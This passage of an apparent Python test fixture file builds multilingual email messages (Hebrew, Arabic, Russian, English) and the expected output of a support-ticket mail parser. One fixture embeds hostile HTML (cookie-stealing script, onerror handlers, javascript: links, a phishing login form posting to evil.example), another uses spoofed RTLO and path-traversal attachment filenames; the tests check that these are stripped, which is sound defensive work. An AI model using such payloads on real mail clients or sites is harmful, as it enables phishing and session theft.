\u200fאבי

________________________________
מאת: Amends Support <{OURS}>
נשלח: יום שני 03 מרץ 2025 10:15
אל: אבי מזרחי <avi@example.co.il>
נושא: [#2002] פנייתך התקבלה

שלחנו לך מוצר חלופי.
""".encode("cp1255")
        ),
    ),
    subject="RE: [#2002] פנייתך התקבלה",
    from_address="avi@example.co.il",
    from_name="אבי מזרחי",
    language="he",
    text="\u200fהמוצר החלופי הגיע שבור גם הוא.\nאני דורש החזר מלא.\n\n\u200fאבי",
)

add(
    "he-outlook-original-message",
    "reply",
    mail(
        f"""From: Shira <shira@example.co.il>
To: {OURS}
Subject: {word("השב: [#2003] החזר")}
Message-ID: <outlook-he-2@example.co.il>
Date: Tue, 4 Mar 2025 11:00:00 +0200
Content-Type: text/plain; charset=utf-8""",
        f"""ההחזר שקיבלתי חלקי בלבד, חסרים 120 ₪.

-----הודעה מקורית-----
מאת: Amends Support [mailto:{OURS}]
נשלח: יום שני, 3 במרץ 2025 10:15
אל: shira@example.co.il
נושא: [#2003] החזר

ההחזר בוצע.
""".encode(),
    ),
    subject="השב: [#2003] החזר",
    from_address="shira@example.co.il",
    language="he",
    text="ההחזר שקיבלתי חלקי בלבד, חסרים 120 ₪.",
)

add(
    "he-apple-mail-reply",
    "reply",
    mail(
        f"""From: Yael <yael@example.co.il>
To: {OURS}
Subject: {word("Re: [#2004] תיאום טכנאי")}
Message-ID: <apple-he@example.co.il>
Date: Tue, 4 Mar 2025 12:00:00 +0200
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable""",
        qp(
            f"""אני לא בבית ביום רביעי, אפשר ביום חמישי?

נשלח מה-iPhone שלי

> ב-3 במרץ 2025, בשעה 10:15, Amends Support <{OURS}> כתב/ה:
>
> הטכנאי יגיע ביום רביעי.
""".encode()
        ),
    ),
    subject="Re: [#2004] תיאום טכנאי",
    from_address="yael@example.co.il",
    language="he",
    text="אני לא בבית ביום רביעי, אפשר ביום חמישי?",
)

add(
    "he-thunderbird-reply",
    "reply",
    mail(
        f"""From: Eitan <eitan@example.co.il>
To: {OURS}
Subject: {word("Re: [#2005] חשבון")}
Message-ID: <tb-he@example.co.il>
Date: Tue, 4 Mar 2025 13:00:00 +0200
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit""",
        """החשבון עדיין מופיע כפתוח באתר.
נא לבדוק שוב.

בתאריך 03/03/2025 10:15, Amends Support כתב:
> סגרנו את החשבון.
""".replace("באתר.\n", "באתר. \n").encode(),  # a soft (flowed) line break
    ),
    subject="Re: [#2005] חשבון",
    from_address="eitan@example.co.il",
    language="he",
    text="החשבון עדיין מופיע כפתוח באתר. נא לבדוק שוב.",
)

add(
    "ar-gmail-reply",
    "reply",
    mail(
        f"""From: {word("منى")} <mona@example.sa>
To: {OURS}
Subject: {word("Re: [#3001] استلمنا شكواك")}
Message-ID: <gmail-ar@example.sa>
Date: Tue, 4 Mar 2025 09:00:00 +0300
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64""",
        b64(
            f"""ما زلت أنتظر الفني منذ الصباح.

في الاثنين، 3 مارس 2025 في 10:15 ص، Amends Support <{OURS}> كتب:

> شكرا لتواصلك معنا. رقم شكواك [#3001].
""".encode()
        ),
    ),
    subject="Re: [#3001] استلمنا شكواك",
    from_address="mona@example.sa",
    from_name="منى",
    language="ar",
    text="ما زلت أنتظر الفني منذ الصباح.",
)

add(
    "ar-outlook-header-block-windows1256",
    "reply",
    mail(
        f"""From: Faisal <faisal@example.sa>
To: {OURS}
Subject: {word("RE: [#3002] الفاتورة", "windows-1256")}
Message-ID: <outlook-ar@example.sa>
Date: Tue, 4 Mar 2025 10:00:00 +0300
Content-Type: text/plain; charset="windows-1256"
Content-Transfer-Encoding: 8bit""",
        f"""الفاتورة الجديدة فيها نفس الخطأ.
أرجو التصحيح.

من: Amends Support <{OURS}>
تاريخ الإرسال: الاثنين، 3 مارس، 2025 10:15 ص
إلى: Faisal <faisal@example.sa>
الموضوع: [#3002] الفاتورة

أرسلنا لك فاتورة مصححة.
""".encode("cp1256"),
    ),
    subject="RE: [#3002] الفاتورة",
    from_address="faisal@example.sa",
    language="ar",
    text="الفاتورة الجديدة فيها نفس الخطأ.\nأرجو التصحيح.",
)

add(
    "ar-apple-mail-reply",
    "reply",
    mail(
        f"""From: Hind <hind@example.ae>
To: {OURS}
Subject: {word("Re: [#3003] موعد التوصيل")}
Message-ID: <apple-ar@example.ae>
Date: Tue, 4 Mar 2025 11:00:00 +0400
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable""",
        qp(
            f"""الموعد لا يناسبني، أرجو التأجيل إلى الأسبوع القادم.

أُرسلت من الـ iPhone

> في ٣ مارس ٢٠٢٥، الساعة ١٠:١٥ ص، كتب Amends Support <{OURS}>:
>
> سيصل الطلب يوم الثلاثاء.
""".encode()
        ),
    ),
    subject="Re: [#3003] موعد التوصيل",
    from_address="hind@example.ae",
    language="ar",
    text="الموعد لا يناسبني، أرجو التأجيل إلى الأسبوع القادم.",
)

add(
    "ar-thunderbird-reply",
    "reply",
    mail(
        f"""From: Tarek <tarek@example.eg>
To: {OURS}
Subject: {word("Re: [#3004] الضمان")}
Message-ID: <tb-ar@example.eg>
Date: Tue, 4 Mar 2025 12:00:00 +0200
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit""",
        f"""نعم، الجهاز ما زال تحت الضمان.
{SIG}
طارق
هاتف 0100000000

في 03/03/2025 10:15، Amends Support كتب:
> هل الجهاز تحت الضمان؟
""".encode(),
    ),
    subject="Re: [#3004] الضمان",
    from_address="tarek@example.eg",
    language="ar",
    text="نعم، الجهاز ما زال تحت الضمان.",
    full_text_contains=["طارق"],
)

add(
    "ru-gmail-reply",
    "reply",
    mail(
        f"""From: {word("Ирина")} <irina@example.ru>
To: {OURS}
Subject: {word("Re: [#4001] Ваша жалоба получена")}
Message-ID: <gmail-ru@example.ru>
Date: Tue, 4 Mar 2025 09:00:00 +0300
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64""",
        b64(
            f"""Прошло уже три дня, ответа нет.

пн, 3 мар. 2025 г. в 10:15, Amends Support <{OURS}>:

> Спасибо за обращение. Номер вашей жалобы [#4001].
""".encode()
        ),
    ),
    subject="Re: [#4001] Ваша жалоба получена",
    from_address="irina@example.ru",
    from_name="Ирина",
    language="ru",
    text="Прошло уже три дня, ответа нет.",
)

add(
    "ru-outlook-header-block-koi8r",
    "reply",
    mail(
        f"""From: {word("Сергей", "koi8-r")} <sergey@example.ru>
To: {OURS}
Subject: {word("RE: [#4002] Возврат", "koi8-r")}
Message-ID: <outlook-ru@example.ru>
Date: Tue, 4 Mar 2025 10:00:00 +0300
Content-Type: text/plain; charset="koi8-r"
Content-Transfer-Encoding: 8bit""",
        f"""Деньги так и не поступили на карту.

С уважением,
Сергей

От: Amends Support [mailto:{OURS}]
Отправлено: 3 марта 2025 г. 10:15
Кому: Сергей <sergey@example.ru>
Тема: [#4002] Возврат

Возврат оформлен.
""".encode("koi8-r"),
    ),
    subject="RE: [#4002] Возврат",
    from_address="sergey@example.ru",
    from_name="Сергей",
    language="ru",
    text="Деньги так и не поступили на карту.\n\nС уважением,\nСергей",
)

add(
    "ru-apple-mail-reply",
    "reply",
    mail(
        f"""From: Anna <anna@example.ru>
To: {OURS}
Subject: {word("Re: [#4003] Доставка")}
Message-ID: <apple-ru@example.ru>
Date: Tue, 4 Mar 2025 11:00:00 +0300
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable""",
        qp(
            f"""Курьер опять не приехал.

Отправлено с iPhone

> 3 марта 2025 г., в 10:15, Amends Support <{OURS}> написал(а):
>
> Курьер приедет завтра.
""".encode()
        ),
    ),
    subject="Re: [#4003] Доставка",
    from_address="anna@example.ru",
    language="ru",
    text="Курьер опять не приехал.",
)

add(
    "ru-thunderbird-flowed-windows1251",
    "reply",
    mail(
        f"""From: Dmitry <dmitry@example.ru>
To: {OURS}
Subject: {word("Re: [#4004] Гарантия", "windows-1251")}
Message-ID: <tb-ru@example.ru>
Date: Tue, 4 Mar 2025 12:00:00 +0300
Content-Type: text/plain; charset=windows-1251; format=flowed; delsp=yes
Content-Transfer-Encoding: 8bit""",
        """Гарантийный талон у меня есть, но магазин отказывается принимать тел
евизор.

03.03.2025 10:15, Amends Support пишет:
> Пришлите, пожалуйста, гарантийный талон.
""".replace("тел\n", "тел \n").encode("cp1251"),
    ),
    subject="Re: [#4004] Гарантия",
    from_address="dmitry@example.ru",
    language="ru",
    text="Гарантийный талон у меня есть, но магазин отказывается принимать телевизор.",
)

add(
    "ru-mailru-reply",
    "reply",
    mail(
        f"""From: Oleg <oleg@example.ru>
To: {OURS}
Subject: {word("Re: [#4005] Счёт")}
Message-ID: <mailru-ru@example.ru>
Date: Tue, 4 Mar 2025 13:00:00 +0300
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit""",
        f"""Счёт пришёл снова с ошибкой.

--
Олег

Понедельник, 3 марта 2025, 10:15 +03:00 от Amends Support <{OURS}>:
> Мы исправили счёт.
""".encode(),
    ),
    subject="Re: [#4005] Счёт",
    from_address="oleg@example.ru",
    language="ru",
    text="Счёт пришёл снова с ошибкой.",
)

add(
    "he-gmail-html-alternative",
    "reply",
    mail(
        f"""From: Dana <dana@example.co.il>
To: {OURS}
Subject: {word("Re: [#2006] החזר")}
Message-ID: <gmail-he-html@example.co.il>
Date: Tue, 4 Mar 2025 14:00:00 +0200
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000b1f6a5062f5d3e20\"""",
        f"""--000000000000b1f6a5062f5d3e20
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64(f"תודה, קיבלתי את ההחזר.{chr(10)}{chr(10)}בתאריך יום ב׳, 3 במרץ 2025 ב-10:15 מאת Amends Support <{OURS}>:{chr(10)}{chr(10)}> ההחזר בוצע.{chr(10)}".encode())}
--000000000000b1f6a5062f5d3e20
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(f'<div dir="rtl">תודה, קיבלתי את ההחזר.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">בתאריך יום ב׳, 3 במרץ 2025 ב-10:15 מאת Amends Support &lt;<a href="mailto:{OURS}">{OURS}</a>&gt;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">ההחזר בוצע.</blockquote></div>'.encode())}
--000000000000b1f6a5062f5d3e20--
""".encode(),
    ),
    subject="Re: [#2006] החזר",
    from_address="dana@example.co.il",
    language="he",
    text="תודה, קיבלתי את ההחזר.",
    html_contains=['<div dir="rtl">תודה, קיבלתי את ההחזר.</div>', "<blockquote>"],
    html_excludes=["style=", "class="],
)

AR_OUTLOOK_HTML = f"""<html dir="rtl"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style>p {{margin:0}}</style></head><body dir="rtl">
<div dir="rtl"><p>مرحبا،</p><p>ما زلت أنتظر الرد على شكواي بخصوص الفاتورة.</p><p>شكرا،<br>سارة</p></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="rtl"><font face="Calibri" style="font-size:11pt" color="#000000"><b>من:</b> Amends Support &lt;{OURS}&gt;<br>
<b>تاريخ الإرسال:</b> الاثنين، 3 مارس 2025 10:15 ص<br>
<b>إلى:</b> سارة &lt;sara@example.com&gt;<br>
<b>الموضوع:</b> [#3005] تم استلام شكواك</font>
<div>&nbsp;</div></div>
<div><p>شكرا لتواصلك معنا.</p></div></body></html>"""
add(
    "ar-outlook-html-only-reply",
    "reply",
    mail(
        f"""From: Sara <sara@example.com>
To: {OURS}
Subject: {word("RE: [#3005] تم استلام شكواك")}
Message-ID: <owa-ar-html@example.com>
Date: Tue, 4 Mar 2025 15:00:00 +0300
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64""",
        b64(AR_OUTLOOK_HTML.encode()),
    ),
    subject="RE: [#3005] تم استلام شكواك",
    from_address="sara@example.com",
    language="ar",
    text="مرحبا،\n\nما زلت أنتظر الرد على شكواي بخصوص الفاتورة.\n\nشكرا،\nسارة",
    full_text_contains=["الموضوع: [#3005] تم استلام شكواك", "شكرا لتواصلك معنا."],
    html_contains=['dir="rtl"', "<b>من:</b>"],
    html_excludes=["<style", "style=", "<hr style"],
)

# ---------------------------------------------------------------------------------------------
# HTML-only mail

add(
    "html-only-scripts-and-forms",
    "html",
    mail(
        """From: Anna Schmidt <anna.schmidt@example.de>
To: support@amends.localhost
Subject: Charged twice
Message-ID: <html-scripts@example.de>
Date: Wed, 12 Mar 2025 09:00:00 +0100
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8""",
        b"""<html><head><title>Complaint</title><script>alert(document.cookie)</script>
<style>body{background:url(http://evil.example/bg.png)}</style>
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="steal()">
<p>Hello,</p>
<p>Your <b>website</b> charged me twice for order <a href="https://shop.example.com/orders/5512" onclick="track()">#5512</a> &amp; nobody answers.</p>
<p><a href="javascript:alert(1)">Click here</a> to see my bank statement.</p>
<iframe src="https://evil.example/frame">iframe text</iframe>
<form action="https://evil.example/login" method="post"><input type="password" name="p"><button>Log in</button></form>
<ul><li>First charge: 120 &euro;</li><li>Second charge: 120 &euro;</li></ul>
<img src="x" onerror="alert(2)">
<svg><script>alert(3)</script></svg>
<p>Regards,<br>Anna Schmidt</p>
</body></html>""",
    ),
    subject="Charged twice",
    from_address="anna.schmidt@example.de",
    language="en",
    text_contains=[
        "Your website charged me twice for order #5512 & nobody answers.",
        "- First charge: 120 €",
        "Click here to see my bank statement.",
        "Regards,\nAnna Schmidt",
    ],
    text_excludes=["alert", "Complaint", "iframe text", "background"],
    html_contains=['href="https://shop.example.com/orders/5512"', 'rel="noopener noreferrer nofollow"'],
    html_excludes=[
        "<script",
        "alert(",
        "onload",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<form",
        "<input",
        "refresh",
        "<style",
        "evil.example",
        "<title",
    ],
)

add(
    "html-only-tracking-pixels",
    "html",
    mail(
        """From: Jon Reyes <jon@example.com>
To: support@amends.localhost
Subject: parcel lost
Message-ID: <html-pixels@example.com>
Date: Wed, 12 Mar 2025 10:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel-boundary-77"; type="text/html\"""",
        f"""--rel-boundary-77
Content-Type: text/html; charset=iso-8859-1
Content-Transfer-Encoding: quoted-printable

{
            qp(b'''<p>Hi, my parcel never arrived. Tracking: <a href="http://track.example.net/AB123">AB123</a></p>
<img src="http://pixel.tracker.example/open?id=abc" width="1" height="1" alt="" style="display:none">
<p><img src="https://cdn.example.org/logo.png" alt="Logo"></p>
<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data"></p>
<p><img src="cid:photo1@example.com" alt="photo"> Jos\xe9 took this photo.</p>
<table background="http://bg.tracker.example/t.gif"><tr><td>cell</td></tr></table>''')
        }
--rel-boundary-77
Content-Type: image/jpeg
Content-Transfer-Encoding: base64
Content-ID: <photo1@example.com>
Content-Disposition: inline

{b64(b"\xff\xd8\xff\xe0 not really a jpeg \xff\xd9")}
--rel-boundary-77--
""",
    ),
    subject="parcel lost",
    from_address="jon@example.com",
    language="en",
    attachments=["attachment.jpg"],
    text_contains=["Hi, my parcel never arrived. Tracking: AB123", "José took this photo."],
    html_contains=['alt="Logo"', 'href="http://track.example.net/AB123"'],
    html_excludes=["src=", "pixel.tracker", "data:image", "cdn.example.org", "bg.tracker", "background"],
)

HE_HTML = """<html><head><meta charset="windows-1255"></head><body>
<div dir="rtl" style="font-family:Arial">
<p>שלום,</p>
<p>קניתי &quot;מכונת כביסה&quot; &amp; מייבש בסניף חיפה.</p>
<ol><li>המכונה מרעישה</li><li>המייבש לא מחמם</li></ol>
<table><tr><th>מוצר</th><th>מחיר</th></tr><tr><td>מכונה</td><td>2,490 &#8362;</td></tr></table>
<p>אבקש טכנאי&nbsp;בהקדם.<br>רחל</p>
</div></body></html>"""
add(
    "html-only-hebrew-meta-charset",
    "html",
    mail(
        """From: Rachel <rachel@example.co.il>
To: support@amends.localhost
Subject: =?windows-1255?B?+uzl+uQ=?=
Message-ID: <html-he@example.co.il>
Date: Wed, 12 Mar 2025 11:00:00 +0200
MIME-Version: 1.0
Content-Type: text/html
Content-Transfer-Encoding: 8bit""",
        HE_HTML.encode("cp1255"),
    ),
    subject="תלותה",
    from_address="rachel@example.co.il",
    language="he",
    text="""שלום,

קניתי "מכונת כביסה" & מייבש בסניף חיפה.

- המכונה מרעישה
- המייבש לא מחמם

מוצר מחיר
מכונה 2,490 ₪

אבקש טכנאי בהקדם.
רחל""",
    html_contains=['<div dir="rtl">', "<ol>", "<table>"],
    html_excludes=["style=", "<meta"],
)

add(
    "html-newsletter-bulk",
    "automatic",
    mail(
        """From: Deals Weekly <news@deals.example.com>
To: support@amends.localhost
Subject: This week's deals
Message-ID: <newsletter-77@deals.example.com>
Date: Wed, 12 Mar 2025 12:00:00 +0000
List-Id: Deals Weekly <weekly.deals.example.com>
List-Unsubscribe: <https://deals.example.com/unsub?u=1>, <mailto:unsub@deals.example.com>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary=nl""",
        """--nl
Content-Type: text/plain; charset=utf-8

Big sale on kettles this week.
--nl
Content-Type: text/html; charset=utf-8

<p>Big sale on <b>kettles</b> this week.</p><img src="https://deals.example.com/o.gif?u=1">
--nl--
""",
    ),
    subject="This week's deals",
    from_address="news@deals.example.com",
    language="en",
    automatic=True,
    text="Big sale on kettles this week.",
    html_contains=["<b>kettles</b>"],
    html_excludes=["o.gif"],
)

# ---------------------------------------------------------------------------------------------
# Attachments

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
add(
    "attach-rfc2231-hebrew-names",
    "attachments",
    mail(
        f"""From: Dana <dana@example.co.il>
To: {OURS}
Subject: {word("קבלות מצורפות")}
Message-ID: <rfc2231@example.co.il>
Date: Wed, 12 Mar 2025 13:00:00 +0200
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-2231\"""",
        f"""--mixed-2231
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

מצורפות הקבלות.
--mixed-2231
Content-Type: application/pdf
Content-Disposition: attachment; filename*=utf-8''%D7%97%D7%A9%D7%91%D7%95%D7%A0%D7%99%D7%AA%20%D7%9E%D7%A1%2E%201.pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--mixed-2231
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8'he'%D7%A7%D7%91%D7%9C%D7%94%20;
 filename*1*=%D7%A9%D7%A0%D7%99%D7%99%D7%94;
 filename*2=".pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--mixed-2231--
""".encode(),
    ),
    subject="קבלות מצורפות",
    from_address="dana@example.co.il",
    language="he",
    text="מצורפות הקבלות.",
    attachments=["חשבונית מס. 1.pdf", "קבלה שנייה.pdf"],
)

add(
    "attach-rfc2047-names",
    "attachments",
    mail(
        f"""From: Ivan <ivan@example.ru>
To: {OURS}
Subject: {word("Фото повреждений")}
Message-ID: <rfc2047-names@example.ru>
Date: Wed, 12 Mar 2025 14:00:00 +0300
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_1_2047\"""",
        f"""------=_Part_1_2047
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: base64

{b64("Фото во вложении.".encode("koi8-r"))}
------=_Part_1_2047
Content-Type: image/jpeg; name="{word("Коробка.jpg")}"
Content-Disposition: attachment; filename="{word("Коробка.jpg")}"
Content-Transfer-Encoding: base64

{b64(b"\xff\xd8\xff fake jpeg")}
------=_Part_1_2047
Content-Type: application/pdf; name="{word("Чек.pdf", "windows-1251")}"
Content-Transfer-Encoding: base64

{b64(PDF)}
------=_Part_1_2047--
""",
    ),
    subject="Фото повреждений",
    from_address="ivan@example.ru",
    language="ru",
    text="Фото во вложении.",
    attachments=["Коробка.jpg", "Чек.pdf"],
)

add(
    "attach-rtlo-paths-and-unnamed",
    "attachments",
    mail(
        """From: Mallory <mallory@example.net>
To: support@amends.localhost
Subject: my documents
Message-ID: <rtlo@example.net>
Date: Wed, 12 Mar 2025 15:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=XYZ""",
        f"""--XYZ
Content-Type: text/plain; charset=utf-8

Invoice and receipts attached.
--XYZ
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe
Content-Transfer-Encoding: base64

{b64(b"MZ not an exe")}
--XYZ
Content-Type: image/jpeg
Content-Disposition: attachment; filename="C:\\\\Users\\\\dana\\\\Desktop\\\\receipt.jpg"
Content-Transfer-Encoding: base64

{b64(b"\xff\xd8\xff")}
--XYZ
Content-Type: text/plain; name="../../etc/passwd"
Content-Disposition: attachment

root:x:0:0
--XYZ
Content-Type: application/pdf
Content-Disposition: attachment; filename="{"\u2067" + "a" * 300}\u2069.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--XYZ
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

{b64(b"\x00\x01\x02")}
--XYZ
Content-Type: application/pdf
Content-Disposition: attachment; filename="tab\\there\x01?.pdf"

{PDF.decode()}
--XYZ--
""".encode(),
    ),
    subject="my documents",
    from_address="mallory@example.net",
    language="en",
    text="Invoice and receipts attached.",
    attachments=[
        "invoicefdp.exe",
        "receipt.jpg",
        "passwd",
        "a" * 196 + ".pdf",
        "attachment.bin",
        "tabthere_.pdf",
    ],
)

add(
    "attach-forwarded-message",
    "attachments",
    mail(
        f"""From: Ruth <ruth@example.com>
To: {OURS}
Subject: Fwd: what your shop told me
Message-ID: <fwd-rfc822@example.com>
Date: Wed, 12 Mar 2025 16:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd-b\"""",
        """--fwd-b
Content-Type: text/plain; charset=utf-8

See the attached mail from your branch manager.
--fwd-b
Content-Type: message/rfc822
Content-Disposition: inline

From: Branch Manager <manager@shop.example.com>
To: ruth@example.com
Subject: Your return
Message-ID: <branch-99@shop.example.com>
Date: Fri, 28 Feb 2025 12:00:00 +0000
Content-Type: text/plain; charset=utf-8

We cannot accept the return after 14 days.
--fwd-b--
""",
    ),
    subject="Fwd: what your shop told me",
    from_address="ruth@example.com",
    language="en",
    text="See the attached mail from your branch manager.",
    attachments=["forwarded.eml"],
    attachment_contains={
        "forwarded.eml": ["Subject: Your return", "We cannot accept the return after 14 days."]
    },
)

add(
    "attach-raw-8bit-filename",
    "attachments",
    mail(
        f"""From: Lior <lior@example.co.il>
To: {OURS}
Subject: photo
Message-ID: <raw-filename@example.co.il>
Date: Wed, 12 Mar 2025 17:00:00 +0200
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=B8""",
        b"--B8\nContent-Type: text/plain; charset=utf-8\n\nphoto attached\n--B8\nContent-Type: image/png\n"
        + 'Content-Disposition: attachment; filename="תמונה.png"\n'.encode("cp1255")
        + b"Content-Transfer-Encoding: base64\n\n"
        + b64(b"\x89PNG\r\n\x1a\n").encode()
        + b"--B8--\n",
    ),
    subject="photo",
    from_address="lior@example.co.il",
    language="en",
    text="photo attached",
    attachments=["תמונה.png"],
    warnings=True,
)

# ---------------------------------------------------------------------------------------------
# Automatic mail

add(
    "auto-reply-auto-submitted-hebrew",
    "automatic",
    mail(
        f"""From: {word("נועם")} <noam@example.co.il>
To: {OURS}
Subject: {word("תשובה אוטומטית: [#2007] פנייתך התקבלה")}
Auto-Submitted: auto-replied
Message-ID: <oof-he@example.co.il>
Date: Thu, 13 Mar 2025 09:00:00 +0200
Content-Type: text/plain; charset=utf-8""",
        "אני מחוץ למשרד עד יום ראשון.".encode(),
    ),
    subject="תשובה אוטומטית: [#2007] פנייתך התקבלה",
    from_address="noam@example.co.il",
    language="he",
    automatic=True,
    text="אני מחוץ למשרד עד יום ראשון.",
)

add(
    "auto-exchange-oof-russian",
    "automatic",
    mail(
        f"""From: Elena <elena@example.ru>
To: {OURS}
Subject: {word("Автоответ: [#4006] Ваша жалоба получена")}
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: elena@example.ru
Message-ID: <oof-ru@example.ru>
Date: Thu, 13 Mar 2025 10:00:00 +0300
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit""",
        "Я в отпуске до 20 марта.".encode("koi8-r"),
    ),
    subject="Автоответ: [#4006] Ваша жалоба получена",
    from_address="elena@example.ru",
    language="ru",
    automatic=True,
    text="Я в отпуске до 20 марта.",
)

add(
    "auto-x-autoreply-arabic",
    "automatic",
    mail(
        f"""From: Nour <nour@example.sa>
To: {OURS}
Subject: {word("رد تلقائي")}
X-Autoreply: yes
Precedence: junk
Message-ID: <autoreply-ar@example.sa>
Date: Thu, 13 Mar 2025 11:00:00 +0300
Content-Type: text/plain; charset=windows-1256
Content-Transfer-Encoding: 8bit""",
        "شكرا لرسالتك، سأرد عليك لاحقا.".encode("cp1256"),
    ),
    subject="رد تلقائي",
    from_address="nour@example.sa",
    language="ar",
    automatic=True,
    text="شكرا لرسالتك، سأرد عليك لاحقا.",
)

add(
    "auto-mailing-list",
    "automatic",
    mail(
        """From: Someone <someone@example.org>
To: complaints-forum@lists.example.org
Subject: [forum] anyone else had problems with Amends shops?
List-Id: <complaints-forum.lists.example.org>
List-Post: <mailto:complaints-forum@lists.example.org>
Precedence: list
Message-ID: <list-1@example.org>
Date: Thu, 13 Mar 2025 12:00:00 +0000
Content-Type: text/plain; charset=utf-8""",
        "Just asking around.",
    ),
    subject="[forum] anyone else had problems with Amends shops?",
    from_address="someone@example.org",
    language="en",
    automatic=True,
    text="Just asking around.",
)

add(
    "auto-submitted-no-is-human",
    "automatic",
    mail(
        f"""From: Karen <karen@example.com>
To: {OURS}
Subject: human after all
Auto-Submitted: no
Return-Path: <karen@example.com>
Message-ID: <auto-no@example.com>
Date: Thu, 13 Mar 2025 13:00:00 +0000
Content-Type: text/plain; charset=utf-8""",
        "I am a person, please answer me.",
    ),
    subject="human after all",
    from_address="karen@example.com",
    return_path="karen@example.com",
    language="en",
    automatic=False,
    text="I am a person, please answer me.",
)

add(
    "auto-empty-return-path",
    "automatic",
    mail(
        f"""Return-Path: <>
From: Alerts <alerts@monitor.example.com>
To: {OURS}
Subject: Daily report
Message-ID: <empty-rp@monitor.example.com>
Date: Thu, 13 Mar 2025 14:00:00 +0000
Content-Type: text/plain; charset=utf-8""",
        "All systems normal.",
    ),
    subject="Daily report",
    from_address="alerts@monitor.example.com",
    return_path="",
    language="en",
    automatic=True,
    text="All systems normal.",
)

# ---------------------------------------------------------------------------------------------
# Bounces

add(
    "bounce-postfix-dsn",
    "bounce",
    mail(
        """Return-Path: <>
From: MAILER-DAEMON@mx.example.net (Mail Delivery System)
To: bounces+1042@amends.localhost
Subject: Undelivered Mail Returned to Sender
Auto-Submitted: auto-replied
Message-ID: <20250313100000.4Q2XkT1zF2z9sW@mx.example.net>
Date: Thu, 13 Mar 2025 10:00:00 +0200 (IST)
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4Q2XkT1zF2z9sW.1741852800/mx.example.net\"""",
        """This is a MIME-encapsulated message.

--4Q2XkT1zF2z9sW.1741852800/mx.example.net
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.example.net.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<no-such-user@example.net>: host mx.example.net said: 550 5.1.1 User unknown

--4Q2XkT1zF2z9sW.1741852800/mx.example.net
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.net
X-Postfix-Queue-ID: 4Q2XkT1zF2z9sW
Arrival-Date: Thu, 13 Mar 2025 09:59:58 +0200 (IST)

Final-Recipient: rfc822; no-such-user@example.net
Original-Recipient: rfc822;No-Such-User@example.net
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.net
Diagnostic-Code: smtp; 550 5.1.1 <no-such-user@example.net>: Recipient address
    rejected: User unknown

--4Q2XkT1zF2z9sW.1741852800/mx.example.net
Content-Description: Undelivered Message
Content-Type: message/rfc822

Return-Path: <bounces+1042@amends.localhost>
From: Amends Support <support@amends.localhost>
To: no-such-user@example.net
Subject: [#1042] We received your complaint
Message-ID: <case-1042.msg-7@amends.localhost>
Auto-Submitted: auto-replied
Content-Type: text/plain; charset=utf-8

Thank you for writing to us.

--4Q2XkT1zF2z9sW.1741852800/mx.example.net--
""",
    ),
    subject="Undelivered Mail Returned to Sender",
    from_address="mailer-daemon@mx.example.net",
    return_path="",
    automatic=True,
    bounce=True,
    bounced_message_id="case-1042.msg-7@amends.localhost",
    bounced_recipients=["no-such-user@example.net"],
    attachments=["forwarded.eml"],
    language="en",
)

add(
    "bounce-exchange-ndr-hebrew-headers-only",
    "bounce",
    mail(
        f"""From: postmaster@exchange.example.co.il
To: support@amends.localhost
Subject: {word("לא נמסר: [#2008] פנייתך הועברה")}
Message-ID: <ndr-he@exchange.example.co.il>
Date: Thu, 13 Mar 2025 11:00:00 +0200
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="ndr-b"
X-MS-Exchange-Message-Is-Ndr:""",
        f"""--ndr-b
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64("לא ניתן היה למסור את ההודעה לנמענים הבאים:\nmiri@example.co.il\n".encode())}
